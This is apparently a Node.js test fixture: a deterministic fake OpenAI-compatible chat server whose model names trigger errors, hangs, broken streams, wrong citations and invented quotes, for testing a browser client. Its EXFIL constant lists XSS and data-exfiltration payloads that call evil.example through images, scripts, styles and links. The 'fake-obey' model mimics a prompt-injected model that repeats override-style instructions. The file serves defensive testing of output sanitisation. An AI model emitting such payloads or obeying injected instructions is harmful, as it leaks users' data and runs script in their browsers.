// A provider that behaves as configured: OpenAI-compatible, for browser tests. No dependencies, no clock but for delays,
// no randomness: the same request gets the same bytes.
//
//   import { startFake } from './fake_provider.mjs'
//   const fake = await startFake({ port: 0, cors: true, key: 'sk-test' })
//   fake.url        base URL to enter as endpoint, `http://127.0.0.1:PORT/v1`
//   fake.requests   [{ method, path, headers, body, json, status, aborted, at }], newest last
//   await fake.close()
//
// The model's name decides what happens:
//   fake-echo        answers with the question, citing [1] and [2]
//   fake-slow        the same, a word every `slowMillis` (default 100)
//   fake-cut         destroys the socket in the middle of the answer
//   fake-error       an error object inside the 200 stream
//   fake-401 fake-403 fake-404 fake-429 fake-500   that status, with an OpenAI-shaped body
//   fake-html        200 with a web page
//   fake-hang        takes the request and never answers
//   fake-tool        asks for a tool, and says nothing
//   fake-stall       headers and one word, then nothing more
//   fake-obey        does what the evidence says: repeats every instruction it finds there
//   fake-exfil       hostile Markdown, as an injected model would answer
//   fake-cite-wrong  cites [99]
//   fake-quote       quotes the first sentence of passage [1], and one that no passage contains
//   fake-reasoning   reasoning first, then the answer
//   fake-long        2,000 words
//   fake-formulas    formulas that nest as deeply as they may, and far more deeply
//   fake-content     formulas, footnotes, tasks, code, tables, Arabic and Chinese
//   fake-queries     answers with a list of three search queries, dressed as models do
//   fake-json        ignores `stream` and answers with one JSON object
// Any other name: 404, as hosts answer.
//
// Run by itself (`node fake_provider.mjs [PORT]`) it serves until stopped and prints its URL.

import http from 'node:http'

export const MODELS = [
  'fake-echo', 'fake-slow', 'fake-cut', 'fake-error', 'fake-401', 'fake-403', 'fake-404', 'fake-429', 'fake-500',
  'fake-html', 'fake-hang', 'fake-stall', 'fake-obey', 'fake-exfil', 'fake-cite-wrong', 'fake-quote', 'fake-reasoning',
  'fake-long', 'fake-content', 'fake-formulas', 'fake-json', 'fake-embedding',
]

/** What an injected model answers: every known way to make a page fetch something by being shown. */
export const EXFIL = [
  'The answer is 42 [1].',
  '',
  '![x](https://evil.example/?q=secret)',
  '[![y](https://evil.example/i.png)](https://evil.example/)',
  '![r][ref]',
  '<img src=https://evil.example/1 onerror="window.__xss=1">',
  '<picture><source srcset=https://evil.example/2><img></picture>',
  '<style>@import url(https://evil.example/3)</style>',
  '<link rel=prefetch href=https://evil.example/4>',
  '<svg onload="window.__xss=1"><image href=https://evil.example/5 /></svg>',
  '<div style="background:url(https://evil.example/6)">z</div>',
  '<iframe src="https://evil.example/7"></iframe><video poster=https://evil.example/8></video>',
  '<form action=https://evil.example/9><button>Go</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/10">',
  '<script>window.__xss=1;fetch("https://evil.example/11")</script>',
  '[click](javascript:window.__xss=1) [data](data:text/html,<script>window.__xss=1</script>) <javascript:window.__xss=1>',
  '[link](https://evil.example/12?q=secret)',
  '',
  '[ref]: https://evil.example/13',
].join('\n')

/** An answer of everything that Markdown of models holds beyond words. */
export const CONTENT = [
  '# Torque and leave',
  '',
  'The torque $M = F \\cdot r$ of \\(F\\) is given [1], costs $5 to $7, and is noted[^1]. Another note[^late], and one of none[^none].',
  '',
  '$$',
  '\\begin{aligned} f(x) &= \\int_{-\\infty}^{\\infty} \\frac{1}{\\sqrt{2\\pi\\sigma^2}} e^{-\\frac{(x-\\mu)^2}{2\\sigma^2}} \\, dx \\\\',
  '&= \\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix} \\end{aligned}',
  '$$',
  '',
  'Faulty: $\\href{javascript:window.__xss=1}{x}$ and $\\frac{a}$.',
  '',
  '- [x] measure the torque',
  '- [ ] write it down [2]',
  '  - [ ] twice',
  '',
  '```python',
  'def torque(force: float, radius: float) -> float:  # a line that is longer than any column of this page is wide, so that it scrolls',
  '    return force * radius',
  '```',
  '',
  '| Employee | Garantiezeitraum | Wärmeausdehnungskoeffizient | Gannett | Antidisestablishmentarianism |',
  '|---|---|:-:|--:|---|',
  '| Ingrid Aas | 24 Monate | 1.2 | 31,460 | yes [1] |',
  '',
  '[^1]: In newton metres [1].',
  '',
  'هذا جواب باللغة العربية مع رقم 42 واسم Skarv.',
  '',
  '- البند الأول $x^2$',
  '- البند الثاني',
  '',
  '> اقتباس قصير',
  '',
  '员工每年有三十天年假，公式为$a^2+b^2=c^2$，详见下表。',
  '',
  '| 项目 | 天数 |',
  '|---|---|',
  '| 年假 | 30 |',
  '',
  '[^late]: Defined last, with `code` and $y$.',
].join('\n')

/** Formulas that nest as deeply as they may, which are shown, and 10,000 deep, which are not. */
export const FORMULAS = (() => {
  const kinds = [['{', '}', 38], ['\\left(', '\\right)', 38], ['\\begin{matrix}', '\\end{matrix}', 30], ['\\frac{a}', '', 38], ['\\sqrt[3]', '', 37],
    ['\\sqrt{', '}', 19], ['\\frac{a}{', '}', 19], ['x^{', '}', 19], ['\\hat{', '}', 19], ['\\overset{a}{', '}', 19]]
  const nested = ([open, close], depth) => `$$${open.repeat(depth)}x${close.repeat(depth)}$$`
  return [...kinds.map((kind) => nested(kind, kind[2])), ...kinds.map((kind) => nested(kind, 10_000)), 'Still here.'].join('\n\n')
})()

const ERRORS = {
  'fake-401': [401, { error: { message: 'Incorrect API key provided.', type: 'invalid_request_error', param: null, code: 'invalid_api_key' } }],
  'fake-403': [403, { error: { message: 'This key may not use this model.', type: 'permission_error', param: null, code: null } }],
  'fake-404': [404, { error: { message: 'The model `fake-404` does not exist or you do not have access to it.', type: 'invalid_request_error', param: null, code: 'model_not_found' } }],
  'fake-429': [429, { error: { message: 'Rate limit reached. Please try again in 1.5s.', type: 'requests', param: null, code: 'rate_limit_exceeded' } }],
  'fake-500': [500, { error: { message: 'The server had an error while processing your request.', type: 'server_error', param: null, code: null } }],
}

/**
 * @param {{ port?: number, host?: string, cors?: boolean | string, key?: string | null, slowMillis?: number,
 *   delayMillis?: number, models?: string[], contextTokens?: number }} options
 *   `cors`: true answers any origin, a string only that origin, false none (a page then sees a bare TypeError).
 *   `key`: when set, requests without `authorization: Bearer <key>` get 401.
 *   `delayMillis`: between words of the ordinary models.
 */
export async function startFake(options = {}) {
  const { port = 0, host = '127.0.0.1', cors = true, key = null, slowMillis = 100, delayMillis = 0, models = MODELS, contextTokens } = options
  const requests = []
  const sockets = new Set()
  const timers = new Set()

  const server = http.createServer((request, response) => {
    const chunks = []
    const record = {
      method: request.method,
      path: request.url,
      headers: { ...request.headers },
      body: '',
      json: null,
      status: null,
      aborted: false,
      at: requests.length,
    }
    requests.push(record)
    response.on('close', () => {
      // Closed before we had ended it: the other side went away, unless we cut it ourselves.
      if (!response.writableFinished && !record.cut) record.aborted = true
    })
    request.on('data', (chunk) => chunks.push(chunk))
    request.on('end', () => {
      record.body = Buffer.concat(chunks).toString('utf8')
      try { record.json = JSON.parse(record.body) } catch { record.json = null }
      answer(request, response, record).catch((error) => {
        if (!response.headersSent) reply(response, record, 500, { error: { message: String(error) } })
        else response.destroy()
      })
    })
  })
  server.on('connection', (socket) => {
    sockets.add(socket)
    socket.on('close', () => sockets.delete(socket))
  })
  // A hanging model must not be ended by the server's own timeouts.
  server.requestTimeout = 0
  server.headersTimeout = 0
  // A connection that is closed just as a request leaves on it looks like a dead host.
  server.keepAliveTimeout = 120_000

  function corsHeaders(request) {
    const origin = request.headers.origin
    if (!cors || !origin || (typeof cors === 'string' && cors !== origin)) return {}
    return { 'access-control-allow-origin': origin, vary: 'origin' }
  }

  function reply(response, record, status, body, headers = {}) {
    record.status = status
    response.writeHead(status, { 'content-type': 'application/json', ...headers })
    response.end(typeof body === 'string' ? body : JSON.stringify(body))
  }

  function pause(millis) {
    if (millis <= 0) return Promise.resolve()
    return new Promise((resolve) => {
      const timer = setTimeout(() => { timers.delete(timer); resolve() }, millis)
      timers.add(timer)
    })
  }

  async function answer(request, response, record) {
    const headers = corsHeaders(request)
    const path = new URL(request.url, 'http://fake').pathname
    if (request.method === 'OPTIONS') {
      record.status = 204
      // Only what many real hosts allow: a page that sends any other header fails here too.
      const allow = headers['access-control-allow-origin']
        ? { 'access-control-allow-methods': 'GET, POST, OPTIONS', 'access-control-allow-headers': 'authorization, content-type', 'access-control-max-age': '0' }
        : {}
      response.writeHead(204, { ...headers, ...allow })
      response.end()
      return
    }
    if (key !== null && request.headers.authorization !== `Bearer ${key}`) {
      return reply(response, record, 401, ERRORS['fake-401'][1], headers)
    }
    if (request.method === 'GET' && path === '/v1/models') {
      const data = models.map((id) => ({ id, object: 'model', created: 0, owned_by: 'fake', context_length: contextTokens }))
      return reply(response, record, 200, { object: 'list', data }, headers)
    }
    if (request.method !== 'POST' || path !== '/v1/chat/completions') {
      return reply(response, record, 404, { error: { message: `Unknown request URL: ${request.method} ${path}`, type: 'invalid_request_error' } }, headers)
    }
    if (!record.json || !Array.isArray(record.json.messages)) {
      return reply(response, record, 400, { error: { message: 'messages: field required', type: 'invalid_request_error', param: 'messages' } }, headers)
    }
    return chat(response, record, headers)
  }

  async function chat(response, record, headers) {
    const { model, messages, stream } = record.json
    if (ERRORS[model]) return reply(response, record, ERRORS[model][0], ERRORS[model][1], headers)
    if (model === 'fake-html') {
      return reply(response, record, 200, '<!doctype html><html><head><title>Sign in to continue</title></head><body>Please sign in.</body></html>', { ...headers, 'content-type': 'text/html' })
    }
    if (model === 'fake-hang') return
    const text = model === 'fake-tool' ? '' : answerOf(model, messages)
    if (text === null) {
      return reply(response, record, 404, { error: { message: `The model \`${model}\` does not exist.`, type: 'invalid_request_error', code: 'model_not_found' } }, headers)
    }
    const usage = { prompt_tokens: words(record.body).length, completion_tokens: words(text).length, total_tokens: words(record.body).length + words(text).length }
    if (model === 'fake-json' || stream === false) {
      return reply(response, record, 200, { id: 'fake', object: 'chat.completion', model, choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: 'stop' }], usage }, headers)
    }

    record.status = 200
    response.writeHead(200, { ...headers, 'content-type': 'text/event-stream', 'cache-control': 'no-store' })
    const send = (value) => !response.destroyed && response.write(`data: ${typeof value === 'string' ? value : JSON.stringify(value)}\n\n`)
    const chunk = (delta, finish = null) => ({ id: 'fake', object: 'chat.completion.chunk', model, choices: [{ index: 0, delta, finish_reason: finish }] })
    response.write(': fake\n\n')
    send(chunk({ role: 'assistant', content: '' }))
    if (model === 'fake-reasoning') {
      for (const piece of pieces('First I look at the passages, then I answer.')) send(chunk({ reasoning_content: piece }))
    }
    const all = pieces(text)
    const gap = model === 'fake-slow' ? slowMillis : delayMillis
    for (const [at, piece] of all.entries()) {
      if (response.destroyed) return
      send(chunk({ content: piece }))
      const half = at + 1 >= Math.ceil(all.length / 2)
      if (model === 'fake-stall') return
      if (model === 'fake-cut' && half) {
        record.cut = true
        // Half an event, then the connection breaks.
        response.write('data: {"id":"fake","choices":[{"index":0,"delta":{"con')
        await pause(30)
        response.destroy()
        return
      }
      if (model === 'fake-error' && half) {
        send({ error: { message: 'The upstream model crashed.', type: 'server_error', code: 502 } })
        send('[DONE]')
        response.end()
        return
      }
      await pause(gap)
    }
    if (model === 'fake-tool') send(chunk({ tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'search', arguments: '{}' } }] }))
    send(chunk({}, model === 'fake-tool' ? 'tool_calls' : 'stop'))
    if (record.json.stream_options?.include_usage) send({ id: 'fake', object: 'chat.completion.chunk', model, choices: [], usage })
    send('[DONE]')
    response.end()
  }

  await new Promise((resolve, reject) => {
    server.once('error', reject)
    server.listen(port, host, resolve)
  })
  const address = server.address()

  return {
    url: `http://${host}:${address.port}/v1`,
    origin: `http://${host}:${address.port}`,
    port: address.port,
    requests,
    /** Chat requests only, for comparing what each column was sent. */
    chats: () => requests.filter((request) => request.method === 'POST' && request.path.startsWith('/v1/chat/completions')),
    close: () => new Promise((resolve) => {
      for (const timer of timers) clearTimeout(timer)
      for (const socket of sockets) socket.destroy()
      server.close(() => resolve())
    }),
  }
}

/** The text a model answers with, or null for a model there is none of. */
function answerOf(model, messages) {
  const all = messages.map((message) => String(message.content ?? '')).join('\n')
  const question = String(messages.findLast?.((message) => message.role === 'user')?.content ?? messages.at(-1)?.content ?? '')
  const last = question.trim().split('\n').filter((line) => line.trim()).at(-1) ?? ''
  switch (model) {
    case 'fake-echo':
    case 'fake-slow':
    case 'fake-cut':
    case 'fake-error':
    case 'fake-stall':
    case 'fake-json':
    case 'fake-reasoning':
      return `You asked: ${last} The first passage answers this [1]. **The second agrees** [2], and so do both [1, 2].`
    case 'fake-obey': {
      const orders = all.split('\n').filter((line) => /ignore|instruction|say |print |repeat|reply|output|PWNED/i.test(line))
      return `As instructed:\n\n${orders.join('\n') || 'nothing was ordered.'}`
    }
    case 'fake-queries':
      return 'Sure! Here are three queries:\n\n1. **lighthouse engineer**\n2. "constructor of the Skarv lighthouse"\n3. Ingrid Aas 1874\n'
    case 'fake-exfil':
      return EXFIL
    case 'fake-formulas':
      return FORMULAS
    case 'fake-content':
      return CONTENT
    case 'fake-cite-wrong':
      return `You asked: ${last} It is said somewhere [99], and also in the first passage [1].`
    case 'fake-quote': {
      const passage = all.split(/\[1\]|^1[.)]/m)[1] ?? ''
      const sentence = passage.replace(/\s+/g, ' ').match(/[A-Z][^.!?"“”]{25,200}(?=[.!?])/)?.[0] ?? ''
      return `The source says "${sentence}" [1]. It also says "zebras dance quietly on frozen submarines" [1].`
    }
    case 'fake-long':
      return Array.from({ length: 2000 }, (_, at) => (at % 50 === 49 ? `word${at} [${(at % 3) + 1}].\n\n` : `word${at}`)).join(' ')
    default:
      return null
  }
}

function words(text) {
  return text.split(/\s+/).filter(Boolean)
}

/** Words with the blanks before them: streaming pieces that cut markers apart now and then, as real tokens do. */
function pieces(text) {
  return text.match(/\s*(?:\[|[^\s[\]]+|\])/g) ?? [text]
}

if (process.argv[1] && import.meta.url === new URL(`file://${process.argv[1]}`).href) {
  const fake = await startFake({ port: Number(process.argv[2] ?? 0) })
  console.log(fake.url)
}
